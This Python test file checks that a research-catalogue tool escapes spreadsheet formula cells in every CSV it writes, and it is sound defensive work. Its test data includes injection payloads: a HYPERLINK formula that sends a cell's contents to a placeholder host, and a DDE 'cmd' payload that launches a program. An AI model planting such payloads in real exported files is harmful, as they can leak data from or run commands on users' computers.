"""Class 1: cells a spreadsheet would run as formulas, in every CSV the tool writes."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from ldn_evidence.cli import app
from ldn_evidence.export import export
from ldn_evidence.formats import studies_csv, studies_from_csv
from ldn_evidence.loader import load
from ldn_evidence.text import CSV_FORMULA_STARTS, spreadsheet_safe

from conftest import catalogue_text, study_yaml

# Text YAML carries exactly (no surrogates, NUL, byte-order mark or line-break characters it folds).
_ANY = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\ufeff\x85\u2028\u2029\r")
# What the security review's spreadsheets ran, and text that only starts like it.
FORMULAS = st.sampled_from([
    '=HYPERLINK("https://example.invalid/?x="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "'=1+1", "-", "+", "=",
])  # fmt: skip
TEXT = st.one_of(
    FORMULAS,
    st.builds(lambda head, tail: head + tail, st.sampled_from(CSV_FORMULA_STARTS), st.text(_ANY, max_size=20)),
    st.text(_ANY, min_size=1, max_size=20),
).filter(lambda s: s.strip() != "" and not s.endswith(("\t", "\r")))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _dangerous(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(TEXT)
def test_no_csv_the_tool_writes_holds_a_formula_and_each_reads_back_exactly(
    write_catalogue: Callable[[str], Path], tmp_path: Path, text: str
) -> None:
    path = write_catalogue(catalogue_text(study_yaml(
        "evil", title=text, notes=text, outcome=text, investigators=[text],
        findings=[{"measure": "pain", "effect": "benefit", "detail": text}],
    )))  # fmt: skip
    catalogue = load(path)
    listed = studies_csv(catalogue.studies)
    exported = tmp_path / "out.csv"
    package = tmp_path / "pkg" / "datapackage.json"
    for target in (exported, package):
        export(target, catalogue, catalogue.studies, force=True)
    texts = [listed, exported.read_text(encoding="utf-8")]
    texts += [p.read_text(encoding="utf-8") for p in sorted(package.parent.glob("*.csv"))]
    for written in texts:
        assert not [c for c in _cells(written) if _dangerous(c)], written
    (study,) = studies_from_csv(listed)
    assert (study.title, study.notes, study.outcome, study.investigators) == (text, text, text, (text,))
    assert study.findings[0].detail == text


def test_list_writes_guarded_csv(write_catalogue: Callable[[str], Path], runner: CliRunner) -> None:
    path = write_catalogue(catalogue_text(study_yaml("evil", title="=1+1")))
    listed = runner.invoke(app, ["--no-cache", "--data", str(path), "list", "--format", "csv"])
    (row,) = csv.DictReader(io.StringIO(listed.stdout, newline=""))
    assert row["title"] == "'=1+1"


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(FORMULAS)
def test_raw_csv_writes_the_exact_text(write_catalogue: Callable[[str], Path], tmp_path: Path, text: str) -> None:
    path = write_catalogue(catalogue_text(study_yaml("evil", title=text)))
    runner = CliRunner()
    listed = runner.invoke(app, ["--no-cache", "--data", str(path), "list", "--format", "csv", "--raw-csv"])
    (row,) = csv.DictReader(io.StringIO(listed.stdout, newline=""))
    assert row["title"] == text
    target = tmp_path / "raw" / "datapackage.json"
    target.parent.mkdir(exist_ok=True)
    assert runner.invoke(app, ["--no-cache", "--data", str(path), "export", str(target), "--raw-csv", "--force"]
                         ).exit_code == 0  # fmt: skip
    with (target.parent / "studies.csv").open(newline="", encoding="utf-8") as handle:
        assert next(csv.DictReader(handle))["title"] == text
    assert "apostrophe" not in json.loads(target.read_text(encoding="utf-8"))["description"]


def test_the_data_package_says_how_cells_are_guarded(runner: CliRunner, tmp_path: Path) -> None:
    target = tmp_path / "pkg" / "datapackage.json"
    assert runner.invoke(app, ["--no-cache", "export", str(target)], env={"LDN_DATA": ""}).exit_code == 0
    assert "one more apostrophe in front" in json.loads(target.read_text(encoding="utf-8"))["description"]


def test_tsv_on_a_terminal_is_not_changed(write_catalogue: Callable[[str], Path], runner: CliRunner) -> None:
    path = write_catalogue(catalogue_text(study_yaml("evil", dose="4.5 mg nightly", effect="benefit")))
    text = path.read_text(encoding="utf-8").replace("id: evil", "id: evil")
    path.write_text(text, encoding="utf-8")
    result = runner.invoke(app, ["--no-cache", "--data", str(path), "list", "--format", "tsv"])
    assert result.stdout.splitlines()[1].startswith("evil\t")
    # A TSV cell is text for people, never prefixed: only CSV is guarded.
    assert "'" not in result.stdout


def test_the_rule_is_owasps() -> None:
    assert [spreadsheet_safe(c) for c in ["=1", "+1", "-1", "@x", "\tx", "\rx", "'x", "a=1", "1"]] == [
        "'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "''x", "a=1", "1",
    ]  # fmt: skip


def test_the_published_layers_csv_is_guarded_too() -> None:
    from ldn_evidence.formats import DISCREPANCY_FIELDS, discrepancies_csv

    record = dict.fromkeys(DISCREPANCY_FIELDS, "=HYPERLINK(1)")
    record["computed"] = False
    (row,) = csv.DictReader(io.StringIO(discrepancies_csv([record]), newline=""))
    assert row["article_says"] == "'=HYPERLINK(1)" and row["computed"] == "false"
    (raw,) = csv.DictReader(io.StringIO(discrepancies_csv([record], raw=True), newline=""))
    assert raw["article_says"] == "=HYPERLINK(1)"


def test_list_of_published_counts_writes_guarded_csv(write_catalogue: Callable[[str], Path]) -> None:
    from ldn_evidence.formats import published_list
    from ldn_evidence.results import published_records

    path = write_catalogue(catalogue_text(study_yaml("evil", title="@SUM(A1)")))
    studies = list(load(path).studies)
    (row,) = csv.DictReader(io.StringIO(published_list(published_records(studies), "csv"), newline=""))
    assert row["title"] == "'@SUM(A1)"
    (raw,) = csv.DictReader(io.StringIO(published_list(published_records(studies), "csv", raw=True), newline=""))
    assert raw["title"] == "@SUM(A1)"
